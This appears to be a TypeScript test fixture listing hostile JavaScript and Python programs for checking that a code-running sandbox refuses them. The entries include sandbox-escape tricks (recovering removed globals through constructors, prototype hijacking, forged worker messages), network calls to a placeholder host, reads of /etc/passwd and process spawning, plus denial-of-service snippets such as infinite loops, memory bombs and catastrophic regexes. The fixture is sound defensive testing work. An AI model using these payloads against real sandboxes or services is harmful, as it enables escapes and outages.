// Programs that a stranger may send: each tries to get out, to stay, or to stand in the way.
import type { ProgramLanguage } from '../src/programs/program.ts';

export interface Hostile {
  readonly name: string;
  readonly language: ProgramLanguage;
  /** `HOST` is the address of a server that must not be asked. */
  readonly text: string;
  /** What the program prints if it has been refused everything. Default: not said. */
  readonly prints?: string;
}

const REFUSED = 'refused\n';

/** Tries expressions. Prints those that gave something. */
const tries = (...expressions: readonly string[]): string => `
const got = [];
const attempts = [${expressions.map((one) => `async () => (${one})`).join(', ')}];
(async () => {
  for (const attempt of attempts) {
    try {
      const value = await Promise.race([attempt(), new Promise((_, no) => setTimeout(no, 300))]);
      if (value !== undefined) got.push(String(attempt));
    } catch {}
  }
  console.log(got.join('\\n') || 'refused');
})();
`;

const javascript: readonly Omit<Hostile, 'language'>[] = [
  { name: 'an endless loop', text: 'for (;;);' },
  {
    name: 'a recursion of a million',
    text: 'const f = (n) => n === 0 ? 0 : 1 + f(n - 1); f(1e6);',
  },
  { name: 'a billion prints', text: 'for (let i = 0; i < 1e9; i++) console.log(i);' },
  {
    name: 'fetch and its kin',
    text: tries(
      'fetch("HOST")',
      'new XMLHttpRequest()',
      'new WebSocket("HOST".replace("http", "ws"))',
      'new EventSource("HOST")',
      'new WebTransport("HOST")',
      'navigator.sendBeacon("HOST")',
      'new Request("HOST")',
      'new RTCPeerConnection()',
      'new Image()',
      'new FontFace("a", "url(HOST)").load()',
    ),
    prints: REFUSED,
  },
  {
    name: 'code from elsewhere',
    text: tries(
      'importScripts("HOST")',
      'import("HOST")',
      'import("data:text/javascript,export default 1")',
      'new Worker("HOST")',
      'new Worker("data:text/javascript,0")',
      'new SharedWorker("HOST")',
      'navigator.serviceWorker.register("HOST")',
      'URL.createObjectURL(new Blob([]))',
      'CSS.paintWorklet.addModule("HOST")',
    ),
    prints: REFUSED,
  },
  {
    name: 'a way back to what was removed',
    text: tries(
      '(() => {}).constructor("return fetch")()',
      '(async () => {}).constructor("return self.fetch")()',
      'Object.getPrototypeOf(globalThis).fetch',
      'Object.getPrototypeOf(Object.getPrototypeOf(globalThis)).indexedDB',
      'Reflect.get(globalThis, "postMessage")',
      'eval("postMessage")',
      '(0, eval)("onmessage")',
      'new Function("return importScripts")()',
      'self',
      'location',
      'navigator',
      'MessagePort.prototype',
      'new MessageChannel()',
      'new Event("a").constructor.prototype.constructor("return caches")()',
    ),
    prints: REFUSED,
  },
  {
    name: 'storage',
    text: tries(
      'indexedDB.open("a")',
      'caches.open("a")',
      'new BroadcastChannel("a")',
      'localStorage',
      'sessionStorage',
      'document.cookie',
      'cookieStore.set("a", "b")',
      'navigator.storage.getDirectory()',
      'navigator.locks.request("a", () => 1)',
      'webkitRequestFileSystem(0, 1, () => {})',
    ),
    prints: REFUSED,
  },
  {
    name: 'the page',
    text: tries(
      'top',
      'parent',
      'window',
      'document',
      'opener',
      'alert(1)',
      'open("HOST")',
      'frames',
    ),
    prints: REFUSED,
  },
  { name: 'location', text: 'location = "HOST"; top = "HOST"; for (;;);' },
  {
    name: 'forged messages',
    text: tries(
      'postMessage({ kind: "ended", status: 0, time: 0 })',
      'dispatchEvent(new MessageEvent("message"))',
      'postMessage({ kind: "snapshot", bytes: new Uint8Array(9) })',
    ),
    prints: REFUSED,
  },
  {
    name: 'a flood of messages',
    text: 'for (let i = 0; i < 1e6; i++) { try { postMessage({ kind: "printed", stream: "output", text: "x" }); } catch {} }',
  },
  {
    name: 'whoever takes onmessage',
    text: 'globalThis.onmessage = (e) => console.log("got", e); addEventListener("message", (e) => console.log("got", e)); setTimeout(() => console.log("refused"), 100);',
    prints: REFUSED,
  },
  {
    name: 'built-in functions that give themselves away',
    text: `
const stolen = [];
for (const holder of [Function.prototype, Array.prototype, Object, String.prototype, Promise.prototype, TextEncoder.prototype, Map.prototype]) {
  for (const name of Object.getOwnPropertyNames(holder)) {
    const before = Object.getOwnPropertyDescriptor(holder, name);
    if (typeof before.value !== 'function' || name === 'constructor') continue;
    try {
      holder[name] = function (...args) {
        for (const one of [this, ...args]) if (Object.prototype.toString.call(one) === '[object MessagePort]') stolen.push(name);
        return Reflect.apply(before.value, this, args);
      };
    } catch {}
  }
}
console.log('refused');
setTimeout(() => stolen.length && console.log(stolen), 50);`,
  },
  {
    name: 'getters on every object',
    text: `
for (const name of ['kind', 'status', 'text', 'stream', 'time', 'killed', 'then', 'get', 'value']) {
  Object.defineProperty(Object.prototype, name, { get() { return { kind: 'ended' }; }, set() {}, configurable: true });
}
throw new Error('at the end');`,
  },
  {
    name: 'promises that lie',
    text: `
Promise.prototype.then = function () { return this; };
Promise.resolve = () => ({ then() { for (;;); } });
globalThis.Promise = class {};
(async () => { await 1; console.log('on'); })();`,
  },
  {
    name: 'an error that does not end',
    text: `
const error = new Error();
Object.defineProperty(error, 'stack', { get() { for (;;); } });
throw error;`,
  },
  {
    name: 'a wait without an end',
    text: 'const m = new WebAssembly.Memory({ shared: true, initial: 1, maximum: 1 }); Atomics.wait(new Int32Array(m.buffer), 0, 0);',
  },
  {
    name: 'memory of WebAssembly',
    text: 'const all = []; for (;;) { const m = new WebAssembly.Memory({ initial: 1 }); m.grow(1 << 14); new Uint8Array(m.buffer).fill(1); all.push(m); }',
  },
  {
    name: 'buffers without an end',
    text: 'const all = []; for (;;) all.push(new Uint8Array(1 << 24).fill(1));',
  },
  {
    name: 'timers without an end',
    text: 'const f = () => { setTimeout(f, 0); setTimeout(f, 0); }; f();',
  },
  { name: 'an expression that goes back for ever', text: '/^(a+)+$/.test("a".repeat(60) + "b");' },
  {
    name: 'a trap in what is printed',
    text: 'console.log(new Proxy({}, { ownKeys() { for (;;); } })); console.log({ get a() { for (;;); } }); for (;;);',
  },
  {
    name: 'other programs',
    text: tries(
      'require("child_process")',
      'require("worker_threads")',
      'require("net")',
      'process.binding("fs")',
      'process.kill(1)',
      'require("/etc/passwd")',
    ),
    prints: REFUSED,
  },
];

/** Tries statements of Python. Prints those that went well. */
const triesInPython = (...statements: readonly string[]): string => `
got = []
for statement in ${JSON.stringify(statements)}:
    try:
        exec(statement, {})
        got.append(statement)
    except BaseException:
        pass
print("\\n".join(got) or "refused")
`;

const python: readonly Omit<Hostile, 'language'>[] = [
  { name: 'an endless loop', text: 'while True: pass' },
  {
    name: 'a recursion in C',
    text: 'x = []\nfor i in range(10 ** 6): x = [x]\nrepr(x)\nprint(x == x)',
  },
  { name: 'a billion prints', text: 'for i in range(10 ** 9): print(i)' },
  { name: 'a memory bomb', text: 'a = []\nwhile True: a.append(bytes(1 << 20))' },
  {
    name: 'JavaScript, the network and other processes',
    text: triesInPython(
      'import js',
      'import pyodide_js',
      'import pyodide.code',
      'import pyodide.http',
      'import _pyodide_core',
      'import micropip',
      'import urllib.request; urllib.request.urlopen("HOST")',
      'import socket; s = socket.create_connection(("127.0.0.1", int("HOST".split(":")[2].strip("/"))), 1); s.send(b"GET /"); assert s.recv(1)',
      'import os; os.fork()',
      'import os; assert os.system("true") == 0',
      'import subprocess; subprocess.run(["true"])',
    ),
    prints: REFUSED,
  },
  {
    name: 'hidden modules brought back',
    text: 'import sys, importlib\nfor n in ["pyodide", "_pyodide", "_pyodide_core"]: sys.modules.pop(n, None)\nimport _pyodide_core\nimport pyodide.code\npyodide.code.run_js("fetch(\'HOST\')")',
  },
  {
    name: 'JavaScript by what is in memory',
    text: 'import gc\nfor o in gc.get_objects():\n  if "JsProxy" in type(o).__name__:\n    try: o.constructor.constructor("fetch(\'HOST\'); for(;;) postMessage(1)")()\n    except BaseException as e: print(type(e).__name__)',
  },
  {
    name: 'threads without an end',
    text: 'import threading\nwhile True:\n  try: threading.Thread(target=lambda: None).start()\n  except RuntimeError: pass',
  },
  {
    name: 'signals',
    text: 'import signal\nsignal.signal(signal.SIGINT, lambda *a: None)\nwhile True: pass',
  },
  {
    name: 'devices',
    text: 'print(len(open("/dev/urandom", "rb").read(1 << 20)))\nopen("/dev/tty", "w").write("x" * 10 ** 6)\nwhile True: open("/dev/null", "w").write("x" * 10 ** 6)',
  },
  {
    name: 'a gigabyte in a file',
    text: 'f = open("a", "wb")\nfor i in range(1024): f.write(bytes(1 << 20))\nprint("written")',
  },
  {
    name: 'no modules',
    text: 'import sys\nsys.modules.clear()\nsys.path.clear()\nsys.meta_path.clear()\nraise ValueError',
  },
  {
    name: 'an exit that does not',
    text: 'import atexit\nclass A:\n  def __del__(self):\n    while True: pass\natexit.register(lambda: 1 / 0)\na = A()\ndel a',
  },
  { name: 'abort', text: 'import os\nos.abort()' },
  {
    name: 'an expression that goes back for ever',
    text: 'import re\nre.match(r"(a+)+$", "a" * 60 + "b")',
  },
  {
    name: 'an error that does not end',
    text: 'class E(Exception):\n  def __str__(self):\n    while True: pass\nraise E',
  },
  { name: 'brackets without an end', text: 'exec("(" * 10 ** 5)' },
  { name: 'sleep', text: 'import time\ntime.sleep(10 ** 6)' },
];

export const hostilePrograms: readonly Hostile[] = [
  ...javascript.map((one) => ({ language: 'javascript', ...one }) as const),
  ...python.map((one) => ({ language: 'python', ...one }) as const),
];
